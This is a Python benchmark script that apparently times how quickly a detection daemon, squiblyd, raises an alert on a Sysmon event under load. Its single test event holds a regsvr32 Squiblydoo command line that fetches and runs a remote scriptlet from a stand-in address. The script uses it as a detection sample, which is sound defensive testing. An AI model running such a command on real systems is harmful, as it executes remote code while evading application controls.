"""How long an alert takes, from the last byte of its event in to the first byte of the alert out, under load."""
import os
import subprocess

from common import BUILD, COPIES, ROUNDS, Squiblyd, free_port, verdict
from attack import attacks

BAR_P99_MS = 2.0
RATE = 200  # attacks a second, for COPIES seconds at each round
EVENT = (r'{"EventTime":"2026-11-22 20:00:00","Hostname":"latency-00000000","EventType":"INFO","EventID":1,'
         r'"SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational",'
         r'"ProviderGuid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","RecordNumber":4711,'
         r'"Image":"C:\\Windows\\System32\\regsvr32.exe","OriginalFileName":"REGSVR32.EXE","ProcessId":4242,'
         r'"CommandLine":"regsvr32.exe /s /u /i:http://192.0.2.7/a.sct scrobj.dll","User":"EXAMPLE\\ann",'
         r'"ParentImage":"C:\\Windows\\explorer.exe","ParentCommandLine":"C:\\Windows\\explorer.exe"}' + "\n")


def clean_file(corpus, folder):
    """The events of the corpus (50 MB of them) that do not alert."""
    path, part = os.path.join(folder, "clean.ndjson"), os.path.join(folder, "part.ndjson")
    with open(corpus, "rb") as f, open(part, "wb") as out:
        out.write(f.read(50_000_000))
        out.write(f.readline())
    bad = set(attacks(part, folder))
    with open(part, "rb") as f, open(path, "wb") as out:
        out.writelines(line for line in f if line.strip() not in bad)
    return path


def stolen():
    """Seconds for which the host of this virtual machine did not run CPU 0, on which squiblyd runs."""
    with open("/proc/stat", encoding="ascii") as f:
        ticks = next(line.split() for line in f if line.startswith("cpu0 "))
    return int(ticks[8]) / os.sysconf("SC_CLK_TCK")


def once(clean, event, folder):
    """@return what tests/bench/latency prints (rates, counts and microseconds), and how much the host took"""
    port, before = free_port(), stolen()
    with Squiblyd(folder, "tcp", outputs=f"  - type: tcp\n    address: 127.0.0.1:{port}\n") as server:
        run = subprocess.run(["taskset", "-c", "1", f"{BUILD}/tests/bench/latency", str(server.port), str(port), clean,
                              event, str(RATE), str(2 * COPIES)], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                             check=True, timeout=120)
    return [float(n) for n in run.stdout.split()] + [stolen() - before]


def latency(corpus, folder):
    clean, event = clean_file(corpus, folder), os.path.join(folder, "attack.ndjson")
    with open(event, "w", encoding="ascii") as f:
        f.write(EVENT)
    runs = [once(clean, event, folder) for _ in range(ROUNDS)]
    top, rate, alerts, left_out, lost, *took, host = min(runs, key=lambda run: run[6])
    if lost or alerts < left_out:
        raise SystemExit(f"bench: {alerts:.0f} alerts, {left_out:.0f} while the sender was stopped, {lost:.0f} missing")
    print("from the last byte of an event to the first byte of its alert by TCP, at half of the top rate, "
          f"{alerts:.0f} alerts ({left_out:.0f} left out, when the sender was stopped), squiblyd on one core")
    print(f"  top rate {top / 1e6:.0f} MB/s, in the background {rate / 1e6:.0f} MB/s")
    print("  " + ", ".join(f"{name} {us / 1000:.2f} ms" for name, us in zip(("p50", "p99", "p99.9", "most"), took)) +
          f" (bar p99 {BAR_P99_MS} ms: {verdict(took[1] / 1000 <= BAR_P99_MS)}); the host kept the core for {host:.2f} s\n")
